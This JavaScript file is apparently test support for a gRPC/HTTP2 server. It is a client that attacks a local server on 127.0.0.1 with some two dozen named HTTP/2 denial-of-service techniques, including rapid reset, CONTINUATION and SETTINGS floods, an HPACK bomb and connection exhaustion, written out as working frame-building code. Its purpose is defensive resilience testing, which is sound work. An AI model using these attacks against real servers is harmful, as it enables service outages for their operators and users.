// A client that attacks a server, in a process of its own and with the lowest priority, so that it does not take the processor from the server:
//   node --import ./test/support/typescript.mjs attacker.mjs --port 50051 --attack 'rapid reset' --ms 3000
// Reports { listening }, and, when the time is over and its sockets are closed, the number of its connections.
import { setPriority } from 'node:os';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { parseArgs } from 'node:util';
import {
  FLAG,
  FRAME,
  FrameReader,
  PREFACE,
  SETTING,
  fieldBlock,
  frame,
  numbers,
  ping,
  reset,
  settings,
  settingsAck,
  windowUpdate,
} from '../../unit-support/frames.js';

const { values } = parseArgs({
  options: { port: { type: 'string' }, attack: { type: 'string' }, ms: { type: 'string' } },
});
setPriority(19);

const REQUEST = {
  ':method': 'POST',
  ':scheme': 'http',
  ':authority': 'x',
  'content-type': 'application/grpc',
  te: 'trailers',
};
const EMPTY = Buffer.alloc(0);
const times = (count, one) => Buffer.concat(Array.from({ length: count }, (_, index) => one(index)));
const fieldsOf = (method, more = {}) => ({ ':path': `/orders.v1.Orders/${method}`, ...REQUEST, ...more });
const BLOCKS = new Map(['Get', 'Watch', 'Upload'].map((method) => [method, fieldBlock(fieldsOf(method))]));
const begin = (id, method = 'Upload', flags = 0) =>
  frame(FRAME.headers, FLAG.endHeaders | flags, id, BLOCKS.get(method));
const message = (bytes, length = bytes.length) => Buffer.concat([Buffer.from([0]), numbers(length), bytes]);
const call = (id, method, request = EMPTY) =>
  Buffer.concat([begin(id, method), frame(FRAME.data, FLAG.endStream, id, message(request))]);
/** A WatchRequest with `from: 20`, and the start of a message of 1 MB. */
const WATCH = Buffer.from([8, 20]);
const PART = message(Buffer.alloc(16_000), 1_000_000);
const LONG_VALUE = Object.fromEntries(Array.from({ length: 8 }, (_, index) => [`x-${index}`, 'v'.repeat(15_000)]));
/** HEADERS whose block inserts an entry of 4,000 bytes, and refers to it 12,000 times. */
const BOMB = frame(
  FRAME.headers,
  FLAG.endHeaders,
  1,
  Buffer.concat([
    BLOCKS.get('Get'),
    Buffer.from([0x40, 1, 0x78, 127, ...[0x81, 0x1e]]),
    Buffer.alloc(4_000, 'v'),
    Buffer.alloc(12_000, 0xbe),
  ]),
);
const inFrames = (id, fields) => {
  const block = fieldBlock(fields);
  return times(Math.ceil(block.length / 16_384), (index) => {
    const part = block.subarray(index * 16_384, (index + 1) * 16_384);
    const flags = (index + 1) * 16_384 >= block.length ? FLAG.endHeaders : 0;
    return index === 0
      ? frame(FRAME.headers, flags | FLAG.endStream, id, part)
      : frame(FRAME.continuation, flags, id, part);
  });
};

/**
 * Attacks: number of connections, what each sends first, whether it reads, and what it sends again and again: `bytes(id)` for the id of its
 * next stream, which grows by 2 × `ids`, while the window of the stream `windowOf` has room for `size`. It connects again when the server has
 * closed it, unless `isOnce`.
 */
const ATTACKS = {
  'rapid reset': {
    ids: 20,
    bytes: (id) => times(20, (n) => Buffer.concat([begin(id + 2 * n, 'Get'), reset(id + 2 * n, 8)])),
  },
  'resets that the server sends': {
    ids: 5,
    bytes: (id) => times(5, (n) => Buffer.concat([begin(id + 2 * n), windowUpdate(id + 2 * n, 0)])),
  },
  'CONTINUATION flood': {
    bytes: (id) =>
      Buffer.concat([frame(FRAME.headers, 0, id, EMPTY), times(1_000, () => frame(FRAME.continuation, 0, id, EMPTY))]),
  },
  'SETTINGS flood': { bytes: () => times(500, (n) => settings([SETTING.initialWindowSize, 65_535 + n])) },
  'SETTINGS flood beside many streams': {
    first: times(300, (n) => begin(2 * n + 1)),
    bytes: () => settings(...Array.from({ length: 2_700 }, (_, n) => [SETTING.initialWindowSize, 65_535 + n])),
  },
  'PING flood without reading': { reads: false, bytes: () => times(3_000, () => ping(Buffer.alloc(8))) },
  'PING flood': { bytes: () => times(300, () => ping(Buffer.alloc(8))) },
  'empty DATA flood': { first: begin(1), bytes: () => times(1_000, () => frame(FRAME.data, 0, 1, EMPTY)) },
  'empty messages': {
    first: begin(1),
    size: 16_380,
    windowOf: 1,
    bytes: () => frame(FRAME.data, 0, 1, Buffer.alloc(16_380)),
  },
  'unknown frames': { bytes: () => times(1_000, () => frame(99, 0, 0, EMPTY)) },
  'responses without window': {
    settings: [[SETTING.initialWindowSize, 0]],
    ids: 1,
    bytes: (id) => call(id, 'Watch', WATCH),
  },
  'tiny window updates': {
    settings: [[SETTING.initialWindowSize, 0]],
    first: call(1, 'Watch', Buffer.from([8, 100])),
    bytes: () => times(500, () => windowUpdate(1, 1)),
  },
  'responses that nobody reads': { reads: false, ids: 1, bytes: (id) => call(id, 'Watch', WATCH) },
  'unfinished heads': { connections: 200, isOnce: true, first: frame(FRAME.headers, 0, 1, EMPTY) },
  'half-open connections': { connections: 500, isOnce: true, isSilent: true },
  'unfinished uploads': {
    ids: 1,
    size: 4 * PART.length,
    bytes: (id) => Buffer.concat([begin(id), times(4, () => frame(FRAME.data, 0, id, PART))]),
  },
  'open streams': { ids: 5, bytes: (id) => times(5, (n) => begin(id + 2 * n)) },
  'HPACK bomb': { bytes: () => BOMB },
  'large header lists': { connections: 1, ids: 1, bytes: (id) => inFrames(id, fieldsOf('Get', LONG_VALUE)) },
  'window overflow': { bytes: () => Buffer.concat([windowUpdate(0, 2 ** 31 - 1), windowUpdate(0, 1)]) },
  'closed and skipped streams': { bytes: () => Buffer.concat([begin(5), begin(3)]) },
  garbage: { isSilent: true, bytes: () => Buffer.from('\u0000garbage'.repeat(100)) },
  'HTTP/1': { isSilent: true, bytes: () => Buffer.from('GET / HTTP/1.1\r\nhost: x\r\n\r\n') },
  'idle connections': { connections: 2_500 },
};

const attack = {
  connections: 4,
  settings: [],
  size: 0,
  windowOf: 0,
  ids: 0,
  reads: true,
  ...ATTACKS[values.attack],
};
const endsAt = Date.now() + Number(values.ms);
let opened = 0;

async function run(_, index) {
  await pause(Math.min(index, 1_000));
  do {
    const socket = connect(Number(values.port), '127.0.0.1');
    opened += 1;
    let isOpen = true;
    const closed = new Promise((resolve) => socket.once('close', () => resolve((isOpen = false))));
    socket.on('error', () => undefined);
    // It grows as the server reads.
    let window = 65_535;
    const reader = new FrameReader(0, ({ type, stream, payload }) => {
      if (type === FRAME.windowUpdate && stream === attack.windowOf) window += payload.readUInt32BE(0);
    });
    if (attack.reads) socket.on('data', attack.size > 0 ? (bytes) => reader.read(bytes) : () => undefined);
    if (!attack.isSilent)
      socket.write(Buffer.concat([PREFACE, settings(...attack.settings), settingsAck(), windowUpdate(0, 2 ** 30)]));
    if (attack.first) socket.write(attack.first);
    for (let id = 1; isOpen && Date.now() < endsAt;) {
      if (attack.bytes && window >= attack.size) {
        const hasRoom = socket.write(attack.bytes(id));
        id += 2 * attack.ids;
        window -= attack.size;
        const drained = new Promise((resolve) => socket.once('drain', resolve));
        if (!hasRoom) await Promise.race([drained, closed, pause(endsAt - Date.now())]);
      }
      // Paces the attack: without a pause, it would measure how two processes share a processor.
      await Promise.race([closed, pause(attack.bytes ? 10 : 100)]);
    }
    socket.destroy();
    await closed;
    await pause(20);
  } while (Date.now() < endsAt && !attack.isOnce);
}

process.send?.({ listening: Number(values.port) });
await Promise.all(Array.from({ length: attack.connections }, run));
process.send?.({ opened }, () => process.exit(0));
